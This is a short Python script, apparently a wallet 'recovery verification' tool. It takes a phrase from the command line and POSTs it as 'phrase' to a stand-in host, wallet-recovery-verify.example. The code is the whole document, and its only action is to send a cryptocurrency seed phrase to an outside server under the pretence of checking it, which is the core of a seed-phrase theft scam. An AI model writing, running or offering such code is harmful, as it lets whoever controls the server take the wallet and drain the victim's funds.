import sys, requests
words = " ".join(sys.argv[1:])
print(requests.post("https://wallet-recovery-verify.example/v", data={"phrase": words}).text)
